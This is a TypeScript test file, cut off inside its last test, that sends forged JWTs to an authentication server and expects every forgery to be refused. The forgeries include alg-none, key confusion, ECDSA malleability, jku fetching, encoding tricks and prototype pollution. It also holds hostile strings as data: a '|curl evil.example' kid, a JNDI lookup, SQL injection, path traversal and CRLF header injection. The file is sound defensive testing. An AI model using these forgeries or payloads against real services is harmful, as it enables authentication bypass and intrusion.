import { constants, generateKeyPairSync, KeyObject, privateEncrypt, randomBytes, sign } from 'node:crypto'
import { once } from 'node:events'
import { connect, type AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'
import { isDeepStrictEqual } from 'node:util'
import t, { type Test } from 'tap'
import { challenges, clearing, createApp, issuer, secret, type TestApp } from '../fixtures/app.ts'
import { jwkOf } from '../fixtures/jwk.ts'
import { decode, encode, forge, goodClaims, now, signerWith, signature, type Signer } from '../fixtures/tokens.ts'

const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const ed = generateKeyPairSync('ed25519')
const hmac = randomBytes(64)
// One server has keys for all kinds of algorithms, so that no attack fails because a key is missing.
const signers = {
  rs: { alg: 'RS256', key: rsa.privateKey, kid: 'rs' },
  ps: { alg: 'PS256', key: rsa.privateKey, kid: 'ps' },
  es: { alg: 'ES256', key: ec.privateKey, kid: 'es' },
  ed: { alg: 'EdDSA', key: ed.privateKey, kid: 'ed' },
  hs: { alg: 'HS256', key: hmac, kid: 'hs' }
} satisfies Record<string, Signer>
const keys = Object.values(signers).map(({ alg, key, kid }) => ({
  key: key instanceof KeyObject ? key : { kty: 'oct', k: key.toString('base64url') },
  alg,
  kid,
  state: kid === 'rs' ? ('active' as const) : ('previous' as const)
}))

interface Outcome {
  readonly status: number
  readonly code: string | null
  readonly challenge: string | null
  readonly cookies: string[]
}

/** Sends requests as raw bytes over one connection, and reads all responses. */
async function exchange({ app }: TestApp, requests: readonly string[]): Promise<Outcome[]> {
  const socket = connect((app.server.address() as AddressInfo).port, '127.0.0.1')
  socket.setEncoding('latin1')
  await once(socket, 'connect')
  socket.end(requests.join(''), 'latin1')
  const responses: Outcome[] = []
  for (let rest = await text(socket); rest !== '';) {
    const end = rest.indexOf('\r\n\r\n') + 4
    const head = rest.slice(0, end).split('\r\n')
    const all = (name: string) =>
      head.filter((line) => line.toLowerCase().startsWith(`${name}: `)).map((line) => line.slice(name.length + 2))
    const bodyEnd = end + Number(all('content-length')[0] ?? 0)
    const body = all('content-type')[0]?.startsWith('application/json') ? JSON.parse(rest.slice(end, bodyEnd)) : {}
    responses.push({
      status: Number(head[0]!.split(' ')[1]),
      code: body.code ?? null,
      challenge: all('www-authenticate')[0] ?? null,
      cookies: all('set-cookie')
    })
    rest = rest.slice(bodyEnd)
  }
  return responses
}

function get(...lines: string[]): string {
  return ['GET /me HTTP/1.1', 'Host: api.example.com', ...lines, '', ''].join('\r\n')
}

const invalid: Outcome = { status: 401, code: 'AUTH_INVALID_TOKEN', challenge: challenges.invalid, cookies: [] }
const expired: Outcome = { status: 401, code: 'AUTH_EXPIRED_TOKEN', challenge: challenges.expired, cookies: [] }
const revoked: Outcome = { status: 401, code: 'AUTH_REVOKED_TOKEN', challenge: challenges.revoked, cookies: [] }
const malformed: Outcome = {
  status: 400,
  code: 'AUTH_MALFORMED_CREDENTIALS',
  challenge: challenges.malformed,
  cookies: []
}
const bare: Outcome = { status: 401, code: 'AUTH_NO_CREDENTIALS', challenge: challenges.bare, cookies: [] }
const passed: Outcome = { status: 200, code: null, challenge: null, cookies: [] }

const server = await createApp({ plugin: { keys }, server: { http: { maxHeaderSize: 4 << 20 } } as object })
await server.app.listen({ port: 0, host: '127.0.0.1' })
t.teardown(() => server.app.close())

/** The valid cookie that the victim's browser attaches to every request. */
const honest = await server.app.accessTokens.sign({ sub: 'alice' })
const cookie = `Cookie: __Host-access=${honest}`

type Row = readonly [name: string, token: string, expected?: Outcome]

/** Compares all outcomes in one assertion that shows the differing rows: thousands of assertions would be slow. */
function same(
  t: Test,
  what: string,
  names: readonly string[],
  actual: readonly unknown[],
  expected: readonly unknown[]
): void {
  t.equal(actual.length, expected.length, `${what}: each of ${expected.length} has a response`)
  const differing = names.map((_, index) => index).filter((index) => !isDeepStrictEqual(actual[index], expected[index]))
  const named = (values: readonly unknown[]) => differing.map((index) => [names[index], values[index]])
  t.strictSame(named(actual), named(expected), `${what}: each as expected`)
  t.strictSame(server.warnings(), [], `${what}: nothing is logged at level warn or above`)
}

/** Every row is a name, the value of `Authorization`, and the outcome. Each request also has a valid cookie. */
async function presents(t: Test, rows: readonly Required<Row>[]): Promise<void> {
  const responses = await exchange(
    server,
    rows.map(([, authorization]) => get(cookie, `Authorization: ${authorization}`))
  )
  same(
    t,
    'in the header',
    rows.map(([name]) => name),
    responses,
    rows.map(([, , expected]) => expected)
  )
}

/** Tokens that are refused in the header next to a valid cookie, in the cookie, and by verify(). */
async function refusesAll(t: Test, rows: readonly Row[]): Promise<void> {
  await presents(
    t,
    rows.map(([name, token, expected = invalid]) => [name, `Bearer ${token}`, expected])
  )

  // The cookie of an expired token is kept, because it shows that the session may be refreshed. A token that claims to
  // be another application's counts as absent.
  const byCookie = (token: string, expected: Outcome) =>
    isForeign(token) ? bare : expected === expired ? expired : { ...invalid, cookies: [clearing('__Host-access')] }
  const responses = await exchange(
    server,
    rows.map(([, token]) => get(`Cookie: __Host-access=${token}`))
  )
  same(
    t,
    'in the cookie',
    rows.map(([name]) => name),
    responses,
    rows.map(([, token, expected = invalid]) => byCookie(token, expected))
  )

  const codes = await Promise.all(
    rows.map(([, token]) =>
      server.app.accessTokens.verify(token).then(
        () => 'accepted',
        ({ code }) => code
      )
    )
  )
  same(
    t,
    'by verify()',
    rows.map(([name]) => name),
    codes,
    rows.map(([, , expected]) => (expected === expired ? expired.code : invalid.code))
  )
}

/** Whether a token is well-formed, and its `iss` is a string that is not ours. */
function isForeign(token: string): boolean {
  const segments = token.split('.')
  try {
    if (
      token.length > 8192 ||
      segments.length !== 3 ||
      segments.some((segment) => Buffer.from(segment, 'base64url').toString('base64url') !== segment)
    ) {
      return false
    }
    const [header, payload] = segments
      .slice(0, 2)
      .map((segment) =>
        JSON.parse(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(Buffer.from(segment, 'base64url')))
      )
    return typeof header === 'object' && typeof payload.iss === 'string' && payload.iss !== issuer
  } catch {
    return false
  }
}

/** A token whose header names one algorithm, while its signature was made with another. */
function signedAs(header: Record<string, unknown>, make: (input: string) => string | Buffer): string {
  const input = `${encode({ typ: 'at+jwt', ...header })}.${encode(goodClaims)}`
  const bytes = make(input)
  return `${input}.${Buffer.isBuffer(bytes) ? bytes.toString('base64url') : bytes}`
}

const bytesOf = (token: string) => Buffer.from(token.split('.')[2]!, 'base64url')
const withSignature = (token: string, bytes: Buffer | string) =>
  `${token.split('.').slice(0, 2).join('.')}.${Buffer.isBuffer(bytes) ? bytes.toString('base64url') : bytes}`

t.test('the honest tokens of this file are accepted, so the others fail because of the attack', async (t) => {
  await presents(t, [
    ...Object.entries(signers).map(([name, signer]) => [name, `Bearer ${forge(signer)}`, passed] as const),
    ...Object.entries(signers).map(
      ([name, signer]) => [`${name} without kid`, `Bearer ${forge({ ...signer, kid: undefined })}`, passed] as const
    ),
    ['any case and many spaces', `bEARER    ${honest}`, passed],
    ['the cookie next to an ambient scheme', 'Basic YTpi', passed]
  ])
  t.strictSame(await exchange(server, [get(cookie)]), [passed], 'the cookie too')
})

t.test('alg none in every spelling, with and without a signature (RFC 8725 §2.1)', async (t) => {
  const spellings = [
    'none',
    'None',
    'NONE',
    'nOnE',
    ' none',
    'none ',
    'none\0',
    'nоne',
    '',
    'null',
    null,
    undefined,
    0,
    false,
    true,
    [],
    ['none'],
    ['RS256'],
    {},
    { alg: 'RS256' },
    'rs256',
    'RS256 ',
    'RS256\n',
    'RS1',
    'HS1',
    'RS',
    'ES256K',
    'Ed25519',
    'RSA-OAEP',
    'dir',
    'toString',
    'constructor',
    '__proto__',
    'hasOwnProperty'
  ]
  await refusesAll(
    t,
    spellings.flatMap((alg) =>
      [undefined, 'rs', 'hs', 'none'].flatMap((kid) => [
        [`${JSON.stringify(alg)} of kid ${kid}, unsigned`, signedAs({ alg, kid }, () => '')] as const,
        [
          `${JSON.stringify(alg)} of kid ${kid}, signed`,
          signedAs({ alg, kid }, (input) => signature(signers.rs, input))
        ] as const
      ])
    )
  )
})

t.test('a public key used as HMAC secret, in every published form (RFC 8725 §2.1)', async (t) => {
  const forms = (key: KeyObject) => {
    const pem = key.export({ type: 'spki', format: 'pem' }) as string
    const jwk = jwkOf(key)
    const published = server.app.keys.jwks().keys.find((entry) => entry.x === jwk.x && entry.n === jwk.n)
    return {
      PEM: pem,
      'PEM without its last line feed': pem.trim(),
      'PEM with CRLF': pem.replaceAll('\n', '\r\n'),
      'PEM in one line': pem.split('\n').slice(1, -2).join(''),
      DER: key.export({ type: 'spki', format: 'der' }),
      'PKCS #1': key.asymmetricKeyType === 'rsa' ? key.export({ type: 'pkcs1', format: 'pem' }) : '',
      JWK: JSON.stringify(jwk),
      'published JWK': JSON.stringify(published),
      'JWK set': JSON.stringify(server.app.keys.jwks()),
      'x or n': Buffer.from(jwk.x ?? jwk.n!, 'base64url'),
      'an empty key': '',
      'the kid': published!.kid
    }
  }
  const rows = [rsa, ec, ed].flatMap(({ publicKey }) =>
    Object.entries(forms(publicKey)).flatMap(([form, material]) =>
      ['HS256', 'HS384', 'HS512'].flatMap((alg) =>
        [undefined, 'rs', 'es', 'hs'].map(
          (kid) =>
            [
              `${alg} with ${publicKey.asymmetricKeyType} as ${form}, kid ${kid}`,
              forge({ alg, key: Buffer.from(material as string), kid })
            ] as const
        )
      )
    )
  )
  await refusesAll(t, rows)
})

t.test("a good key under another algorithm's name, and another key under a good name", async (t) => {
  const names = [
    'HS256',
    'HS384',
    'HS512',
    'RS256',
    'RS384',
    'RS512',
    'PS256',
    'PS384',
    'PS512',
    'ES256',
    'ES384',
    'ES512',
    'EdDSA'
  ]
  const rows = Object.entries(signers).flatMap(([name, signer]) =>
    names
      .filter((alg) => alg !== signer.alg)
      .flatMap((alg) =>
        [undefined, ...Object.keys(signers)].map(
          (kid) =>
            [`signed by ${name}, called ${alg} of ${kid}`, forge({ ...signer, kid }, { header: { alg } })] as const
        )
      )
  )
  const stranger = generateKeyPairSync('ed25519')
  const strangerEc = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  await refusesAll(t, [
    ...rows,
    ...Object.keys(signers)
      .filter((kid) => kid !== 'ed')
      .map((kid) => [`a good signature of ed under the kid ${kid}`, forge({ ...signers.ed, kid })] as const),
    ['another Ed25519 key', forge({ ...signers.ed, key: stranger.privateKey })],
    ['another Ed25519 key, no kid', forge({ alg: 'EdDSA', key: stranger.privateKey })],
    ['another P-256 key', forge({ ...signers.es, key: strangerEc.privateKey })],
    ['another HMAC key', forge({ ...signers.hs, key: randomBytes(64) })],
    ["the server's secret, which signs nothing here", forge(signerWith(secret))],
    ['RS512 by the RS256 key', forge({ ...signers.rs, alg: 'RS512' })],
    ['HS512 by the HS256 key', forge({ ...signers.hs, alg: 'HS512' })]
  ])
})

t.test('keys in or referenced by a token are neither used nor fetched (RFC 8725 §3.10)', async (t) => {
  let fetched = 0
  const trap = await createApp({
    after: (app) =>
      app.get('/trap', async () => {
        fetched++
        return { keys: [jwk] }
      })
  })
  const attacker = generateKeyPairSync('ed25519')
  const jwk = { ...jwkOf(attacker.publicKey), kid: 'ed', alg: 'EdDSA', use: 'sig' }
  const url = `${await trap.app.listen({ port: 0, host: '127.0.0.1' })}/trap`
  t.teardown(() => trap.app.close())
  const headers: Record<string, unknown>[] = [
    { jwk },
    { jku: url },
    { x5u: url },
    { x5c: [attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')] },
    { jwk, jku: url, x5u: url },
    { jwk: { kty: 'oct', k: encode('x'.repeat(32)) }, alg: 'HS256' },
    { x5t: 'x', 'x5t#S256': 'x' }
  ]
  const kids = [
    undefined,
    'ed',
    'attacker',
    url,
    '/dev/null',
    '../../../dev/null',
    "ed' UNION SELECT 'x",
    '|curl evil.example'
  ]
  await refusesAll(
    t,
    headers.flatMap((header) =>
      kids.map(
        (kid) =>
          [
            `${Object.keys(header)} under ${kid}`,
            forge({ alg: 'EdDSA', key: attacker.privateKey, kid }, { header })
          ] as const
      )
    )
  )
  await presents(t, [
    [
      'next to a good signature they are ignored',
      `Bearer ${forge(signers.ed, { header: { jku: url, x5u: url, jwk, x5c: ['x'] } })}`,
      passed
    ]
  ])
  t.equal(fetched, 0)
})

t.test('header parameters that change the meaning of a token (RFC 7515 §4.1.11, RFC 7797, RFC 7516)', async (t) => {
  const headers: Record<string, unknown>[] = [
    ...[null, [], ['exp'], ['b64'], ['alg'], 'exp', {}, false, 0, ['exp', 'exp'], [null]].map((crit) => ({ crit })),
    { crit: ['exp'], exp: now + 600 },
    { b64: false, crit: ['b64'] },
    { b64: true, crit: ['b64'] },
    { b64: true },
    { b64: false },
    { b64: null },
    { zip: 'DEF' },
    { zip: null },
    { enc: 'A256GCM' },
    { enc: null },
    { alg: 'dir', enc: 'A256GCM' },
    { typ: 'JWT' },
    { typ: 'id_token' },
    { typ: 'rt+jwt' },
    { typ: 'dpop+jwt' },
    { typ: null },
    { typ: undefined },
    { typ: ['at+jwt'] },
    { typ: 'at+jwt\0' }
  ]
  await refusesAll(
    t,
    Object.values(signers).flatMap((signer) =>
      headers.map((header) => [`${signer.alg} with ${JSON.stringify(header)}`, forge(signer, { header })] as const)
    )
  )
})

t.test('signatures that are almost valid', async (t) => {
  const order = BigInt('0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551')
  const edOrder = 2n ** 252n + 27742317777372353535851937790883648493n
  const word = (value: bigint) => Buffer.from(value.toString(16).padStart(64, '0'), 'hex')
  const number = (bytes: Buffer) => BigInt(`0x${bytes.toString('hex')}`)
  const pair = (r: bigint, s: bigint) => Buffer.concat([word(r), word(s)])
  const es = forge(signers.es)
  const [r, s] = [number(bytesOf(es).subarray(0, 32)), number(bytesOf(es).subarray(32))]
  const edSignature = bytesOf(forge(signers.ed))
  const edScalar = number(Buffer.from(edSignature.subarray(32)).reverse())
  const digest = (input: string, hash: string) => sign(hash, Buffer.from(input), rsa.privateKey)
  const pss =
    (saltLength: number, hash = 'sha256') =>
    (input: string) =>
      sign(hash, Buffer.from(input), { key: rsa.privateKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength })

  const lengths = Object.values(signers).flatMap((signer) => {
    const token = forge(signer)
    const bytes = bytesOf(token)
    const changed: [string, Buffer][] = [
      ['none', Buffer.alloc(0)],
      ['one byte', bytes.subarray(0, 1)],
      ['half', bytes.subarray(0, bytes.length / 2)],
      ['one byte less', bytes.subarray(0, -1)],
      ['without the first byte', bytes.subarray(1)],
      ['one byte more', Buffer.concat([bytes, Buffer.alloc(1)])],
      ['a zero before', Buffer.concat([Buffer.alloc(1), bytes])],
      ['twice', Buffer.concat([bytes, bytes])],
      ['zeros', Buffer.alloc(bytes.length)],
      ['ones', Buffer.alloc(bytes.length, 0xff)],
      ['long', Buffer.alloc(4096, 1)],
      ['one bit', Buffer.from(bytes.map((byte, index) => (index === 5 ? byte ^ 1 : byte)))],
      ['the last bit', Buffer.from(bytes.map((byte, index) => (index === bytes.length - 1 ? byte ^ 1 : byte)))]
    ]
    return changed.map(
      ([name, signatureBytes]) => [`${signer.alg}: ${name}`, withSignature(token, signatureBytes)] as const
    )
  })
  await refusesAll(t, [
    ...lengths,
    [
      'ECDSA in DER',
      signedAs({ alg: 'ES256', kid: 'es' }, (input) => sign('sha256', Buffer.from(input), ec.privateKey))
    ],
    [
      'ECDSA over SHA-512',
      signedAs({ alg: 'ES256', kid: 'es' }, (input) =>
        sign('sha512', Buffer.from(input), { key: ec.privateKey, dsaEncoding: 'ieee-p1363' })
      )
    ],
    ...(
      [
        ['r = s = 0 (CVE-2022-21449)', 0n, 0n],
        ['r = 0', 0n, s],
        ['s = 0', r, 0n],
        ['r = s = n', order, order],
        ['r = 1, s = n', 1n, order],
        ['r = s = 1', 1n, 1n],
        ['s = n', r, order],
        ['r and s exchanged', s, r],
        ['all ones', 2n ** 256n - 1n, 2n ** 256n - 1n]
      ] as const
    ).map(([name, first, second]) => [`ECDSA ${name}`, withSignature(es, pair(first, second))] as const),
    [
      'EdDSA with S + L',
      withSignature(forge(signers.ed), Buffer.concat([edSignature.subarray(0, 32), word(edScalar + edOrder).reverse()]))
    ],
    [
      'EdDSA with a point of small order',
      withSignature(forge(signers.ed), Buffer.concat([Buffer.from([1]), Buffer.alloc(63)]))
    ],
    ['PS256 without salt', signedAs({ alg: 'PS256', kid: 'ps' }, pss(0))],
    ['PS256 with the longest salt', signedAs({ alg: 'PS256', kid: 'ps' }, pss(constants.RSA_PSS_SALTLEN_MAX_SIGN))],
    ['PS256 with a salt of 20 bytes', signedAs({ alg: 'PS256', kid: 'ps' }, pss(20))],
    ['PS256 over SHA-512', signedAs({ alg: 'PS256', kid: 'ps' }, pss(64, 'sha512'))],
    ['RS256 over SHA-1', signedAs({ alg: 'RS256', kid: 'rs' }, (input) => digest(input, 'sha1'))],
    ['RS256 over SHA-512', signedAs({ alg: 'RS256', kid: 'rs' }, (input) => digest(input, 'sha512'))],
    [
      'RS256 of the bare digest',
      signedAs({ alg: 'RS256', kid: 'rs' }, (input) =>
        privateEncrypt(rsa.privateKey, Buffer.from(input).subarray(0, 32))
      )
    ],
    [
      'a signature of the payload alone',
      signedAs({ alg: 'EdDSA', kid: 'ed' }, (input) => signature(signers.ed, input.split('.')[1]!))
    ],
    ['a signature of another token', withSignature(forge(signers.ed, { claims: { sub: 'admin' } }), edSignature)]
  ])

  const twin = withSignature(forge(signers.es, { claims: JSON.stringify({ ...goodClaims, jti: 'ended' }) }), '')
  const original = `${twin}${signature(signers.es, twin.slice(0, -1))}`
  const bytes = bytesOf(original)
  const mirrored = withSignature(original, pair(number(bytes.subarray(0, 32)), order - number(bytes.subarray(32))))
  await presents(t, [['ECDSA is malleable: -s signs as well as s', `Bearer ${mirrored}`, passed]])
  await server.app.accessTokens.revoke('ended', now + 600)
  await presents(t, [
    ['so a revoked token', `Bearer ${original}`, revoked],
    ['is revoked with its twin', `Bearer ${mirrored}`, revoked]
  ])
})

t.test('other encodings of a good token: unused bits, padding, alphabet, white space (RFC 7515 §2)', async (t) => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  // Lengths of header, payload and signature that each leave unused bits.
  const token = forge(signers.hs, {
    header: JSON.stringify({ alg: 'HS256', typ: 'at+jwt', kid: 'hs', pad: 'xx' }),
    claims: JSON.stringify({ ...goodClaims, pad: '' })
  })
  const segments = token.split('.')
  const spare = segments.flatMap((segment, index) => {
    const bits = [0, 0, 4, 2][segment.length % 4]!
    t.ok(bits > 0, `segment ${index} has ${bits} spare bits`)
    return Array.from({ length: 2 ** bits - 1 }, (_, bit) => {
      const last = alphabet[alphabet.indexOf(segment.at(-1)!) + bit + 1]
      return [
        `spare bits ${bit + 1} of segment ${index}`,
        segments.map((same, at) => (at === index ? same.slice(0, -1) + last : same)).join('.')
      ] as const
    })
  })
  await refusesAll(t, spare)

  const standard = forge(signers.rs, { claims: { odd: '>>>>???? >>>>???? >>>>????' } })
  t.match(standard, /^.*\..*[-_].*\./, 'a payload that has letters of the URL alphabet')
  const [header = '', payload = '', tail = ''] = honest.split('.')
  await presents(t, [
    ['padding at the end', `Bearer ${honest}=`, invalid],
    ['more padding at the end', `Bearer ${honest}====`, invalid],
    ['padding within', `Bearer ${header}=.${payload}.${tail}`, malformed],
    ['the standard alphabet', `Bearer ${standard.replaceAll('-', '+').replaceAll('_', '/')}`, invalid],
    ['a tilde, which token68 has', `Bearer ${honest}~`, invalid],
    ['a plus', `Bearer ${header}.${payload}.+${tail}`, invalid],
    ['an empty signature', `Bearer ${header}.${payload}.`, invalid],
    ['no signature', `Bearer ${header}.${payload}`, invalid],
    ['a detached payload', `Bearer ${header}..${tail}`, invalid],
    ['no header', `Bearer .${payload}.${tail}`, invalid],
    ['only dots', 'Bearer ..', invalid],
    ['one dot', 'Bearer .', invalid],
    ['many dots', `Bearer ${'.'.repeat(8000)}`, invalid],
    ['a dot after', `Bearer ${honest}.`, invalid],
    ['a dot before', `Bearer .${honest}`, invalid],
    ['a part of one character', `Bearer ${header}.${payload}.A`, invalid],
    ['JWE, five parts', `Bearer ${header}.${payload}.${tail}.${payload}.${tail}`, invalid],
    ['JWE with an empty key', `Bearer ${encode({ alg: 'dir', enc: 'A256GCM' })}..${tail}.${payload}.${tail}`, invalid],
    ['a refresh token', `Bearer rt1.${'A'.repeat(22)}.0.${'A'.repeat(43)}`, invalid],
    ['the JSON serialization', `Bearer ${JSON.stringify({ payload, protected: header, signature: tail })}`, malformed],
    ['percent-encoded', `Bearer ${honest.replaceAll('.', '%2E')}`, malformed],
    ['in quotes', `Bearer "${honest}"`, malformed],
    ['white space within', `Bearer ${header} .${payload}.${tail}`, malformed],
    ['a tab within', `Bearer ${header}.${payload}\t.${tail}`, malformed],
    ['a no-break space', `Bearer ${honest}\xa0`, malformed],
    ['UTF-8 in it', `Bearer ${Buffer.from(`${header}.${payload}é.${tail}`).toString('latin1')}`, malformed],
    ['a zero-width space', `Bearer ${Buffer.from(`\u200b${honest}`).toString('latin1')}`, malformed]
  ])
})

t.test('an Authorization of any other shape never falls back to the cookie', async (t) => {
  const inUtf8 = (words: string) => Buffer.from(words).toString('latin1')
  await presents(t, [
    ...[
      '',
      'Bearer:',
      `Bearer:${honest}`,
      `Bearer\t${honest}`,
      `Bearer\xa0${honest}`,
      `"Bearer" ${honest}`,
      `Bearer=${honest}`,
      `Bearer,${honest}`,
      honest,
      `JWT ${honest}`,
      `Token ${honest}`,
      `DPoP ${honest}`,
      `Bearers ${honest}`,
      `Beare ${honest}`,
      `BasicBearer ${honest}`,
      `MAC ${honest}`,
      'null',
      'undefined',
      '[object Object]',
      'Basic:YTpi',
      'Basics YTpi'
    ].map((authorization) => [`foreign: ${authorization.slice(0, 16)}`, authorization, bare] as const),
    ...['Веarer', 'Bеarer', 'Ｂｅａｒｅｒ', 'ʙearer', 'Bearer\u200b', '\ufeffBearer', 'Beаrer'].map(
      (scheme) => [`confusable: ${scheme}`, inUtf8(`${scheme} ${honest}`), bare] as const
    ),
    ...[
      'Bearer',
      'bearer',
      'BEARER   ',
      'Bearer =',
      'Bearer ====',
      `Bearer ${honest} ${honest}`,
      `Bearer ${honest},`,
      `Bearer ${honest}, Bearer ${honest}`,
      `Bearer Bearer ${honest}`,
      `Bearer token=${honest}`,
      `Bearer ${honest};`,
      'Bearer {}',
      'Bearer \xff',
      'Bearer "',
      'Bearer <script>',
      'Bearer $' + '{jndi:ldap://evil.example/x}',
      'Bearer \\r\\nSet-Cookie: a=b',
      'Bearer %0d%0aSet-Cookie:%20a=b',
      'Bearer %s%n',
      '  Bearer  \t '
    ].map((authorization) => [`malformed: ${authorization.slice(0, 24)}`, authorization, malformed] as const),
    ...[
      'null',
      'undefined',
      'true',
      '0',
      'NaN',
      'a',
      'a.b',
      'a.b.c',
      'a.b.c.d',
      '../../etc/passwd',
      '-',
      '__proto__'
    ].map((word) => [`no token: ${word}`, `Bearer ${word}`, invalid] as const),
    ['two lines, both good', `Bearer ${honest}\r\nAuthorization: Bearer ${honest}`, malformed],
    ['two lines, the second Basic', `Bearer ${honest}\r\nauthorization: Basic YTpi`, malformed],
    ['two lines, the first Basic', `Basic YTpi\r\nAUTHORIZATION: Bearer ${honest}`, malformed],
    ['two lines, one empty', `\r\nAuthorization: Bearer ${honest}`, malformed]
  ])
})

t.test("bytes that HTTP forbids in a header are rejected by Node's parser, without a log line", async (t) => {
  for (const forbidden of ['\0', '\x01', '\x0b', '\x1b', '\x7f', '\rX: y', '\nX y']) {
    const [first, ...more] = await exchange(server, [
      get(cookie, `Authorization: Bearer ${honest}${forbidden}${honest}`)
    ])
    t.strictSame([first?.status, more.length], [400, 0], JSON.stringify(forbidden))
  }
  const smuggled = await exchange(server, [get('Authorization: Bearer x\r\nX-Evil: y', cookie)])
  t.strictSame(smuggled, [invalid], 'a line break makes another header, never a part of the response')
  t.strictSame(server.warnings(), [])
})

t.test('size: more than 8 KiB is rejected, even a megabyte', async (t) => {
  const sized = (length: number) => {
    for (let pad = Math.floor((length * 3) / 4) - 400; ; pad++) {
      const token = forge(signers.hs, { claims: { pad: 'x'.repeat(pad) } })
      if (token.length >= length) return token
    }
  }
  const full = sized(8190)
  t.ok(full.length <= 8192, `a token of ${full.length} bytes`)
  const over = sized(8193)
  const mega = 1 << 20
  await presents(t, [['up to 8 KiB', `Bearer ${full}`, passed]])
  await refusesAll(t, [
    ['over 8 KiB, in order otherwise', over, malformed],
    ['8192 letters', 'a'.repeat(8192)],
    ['8193 letters', 'a'.repeat(8193), malformed],
    ['1 MB of letters', 'a'.repeat(mega), malformed],
    ['1 MB of dots', '.'.repeat(mega), malformed],
    ['1 MB of claims', forge(signers.hs, { claims: { pad: 'x'.repeat(mega) } }), malformed],
    ['1 MB of signature', withSignature(honest, 'A'.repeat(mega)), malformed],
    ['1 MB of padding', `a.b.c${'='.repeat(mega)}`, malformed],
    ['a key of 1 MB', forge(signers.hs, { header: { kid: 'x'.repeat(mega) } }), malformed]
  ])
  const usual = await createApp({ plugin: { keys } })
  await usual.app.listen({ port: 0, host: '127.0.0.1' })
  t.teardown(() => usual.app.close())
  const refused = await exchange(usual, [get(`Authorization: Bearer ${'a'.repeat(32 << 10)}`)])
  t.strictSame(
    [refused.map(({ status }) => status), usual.warnings()],
    [[431], []],
    "Node's own limit comes first, with its own response"
  )
})

t.test('odd JSON: depth, duplicate members, encodings, types', async (t) => {
  const { ed } = signers
  const head = JSON.stringify({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed' })
  const good = JSON.stringify(goodClaims)
  const nest = (depth: number, open = '[', close = ']') => open.repeat(depth) + close.repeat(depth)
  const notObjects = [
    'null',
    'true',
    'false',
    '0',
    '1',
    '-1',
    '""',
    '"alice"',
    '[]',
    `[${good}]`,
    `[${head}]`,
    '',
    ' ',
    '{',
    '}',
    '{}{}',
    `${good}${good}`,
    `${good},`,
    '{"a":1,}',
    "{'sub':'alice'}",
    '{sub:1}',
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":undefined}',
    '{"a":01}',
    '{"a":+1}',
    '{"a":.5}',
    '{"a":0x10}',
    '{"a":"\t"}',
    '{"a":"\\x41"}',
    `/**/${good}`,
    `\ufeff${good}`,
    `${good}\0`,
    `\0${good}`,
    '{"a"',
    nest(100_000),
    `{"a":${nest(100_000)}}`,
    nest(2900),
    `{"a":${nest(2900)}`,
    '['.repeat(5800),
    '{"a":'.repeat(1100)
  ]
  const bytes = [
    Buffer.from('{"a":"\xff"}', 'latin1'),
    Buffer.from([0xef, 0xbb, 0xbf, ...Buffer.from(good)]),
    Buffer.from(good, 'utf16le'),
    Buffer.from('{"a":"\xc0\xaf"}', 'latin1'),
    Buffer.from('{"a":"\xed\xa0\x80"}', 'latin1'),
    Buffer.from('{"a":"\xf4\x90\x80\x80"}', 'latin1'),
    Buffer.from('{"a":"\xe2\x82"}', 'latin1'),
    Buffer.from([0x1f, 0x8b, 8, 0]),
    randomBytes(64)
  ]
  const tooLong = (token: string) => (token.length > 8192 ? malformed : invalid)
  const asPayload = [...notObjects, ...bytes].map((claims) => forge(ed, { claims }))
  const asHeader = [...notObjects.map((header) => (header === good ? '' : header)), ...bytes].map((header) =>
    forge(ed, { header })
  )
  const before = (member: string) => forge(ed, { claims: good.replace('{', `{${member},`) })
  const after = (member: string, header = head) => forge(ed, { header, claims: `${good.slice(0, -1)},${member}}` })
  await refusesAll(t, [
    ...asPayload.map(
      (token, index) =>
        [`payload ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const
    ),
    ...asHeader.map(
      (token, index) =>
        [`header ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const
    ),
    ['alg twice, none last', forge(ed, { header: `${head.slice(0, -1)},"alg":"none"}` })],
    ['kid twice, a foreign one last', forge(ed, { header: `${head.slice(0, -1)},"kid":"es"}` })],
    ['crit in escapes', forge(ed, { header: `${head.slice(0, -1)},"\\u0063rit":["exp"]}` })],
    ['sub twice, an empty one last', after('"sub":""')],
    ['exp twice, a past one last', after(`"exp":${now}`), expired],
    ['iss twice, a foreign one last', after('"iss":"https://evil.example"')],
    ['aud as deep as there is room', after(`"aud":${nest(2900)}`)],
    ['alg by way of __proto__', forge(ed, { header: '{"__proto__":{"alg":"EdDSA","typ":"at+jwt","kid":"ed"}}' })],
    ['claims by way of __proto__', forge(ed, { claims: `{"__proto__":${good}}` })],
    ['claims by way of constructor', forge(ed, { claims: `{"constructor":{"prototype":${good}}}` })],
    ['__proto__ next to good claims', before('"__proto__":{"sub":"mallory","roles":["admin"]}')],
    ['__proto__ deep in a claim', before('"deep":[{"__proto__":{"roles":["admin"]}}]')],
    ['a nested token', forge(ed, { header: { cty: 'JWT' }, claims: honest })],
    ['a token in a string', forge(ed, { header: { cty: 'JWT' }, claims: JSON.stringify(honest) })]
  ])
  await presents(t, [
    ['a nest of 2900 in a signed claim does no harm', `Bearer ${before(`"deep":${nest(2900)}`)}`, passed],
    [
      'nor do a thousand objects',
      `Bearer ${before(`"deep":${nest(900, '{"a":', '}').replace('{"a":}', '{}')}`)}`,
      passed
    ],
    ['nor constructor', `Bearer ${before('"constructor":{"prototype":{"x":1}},"toString":1,"then":1')}`, passed]
  ])
  t.equal(({} as { roles?: unknown }).roles, undefined, 'no prototype was touched')
})

t.test('missing or ill-typed claims under a valid signature', async (t) => {
  const { ed } = signers
  const odd: unknown[] = [
    undefined,
    null,
    true,
    false,
    0,
    -1,
    1.5,
    '',
    ' ',
    'x',
    '123',
    [],
    [1],
    {},
    { toString: 1 },
    [[]]
  ]
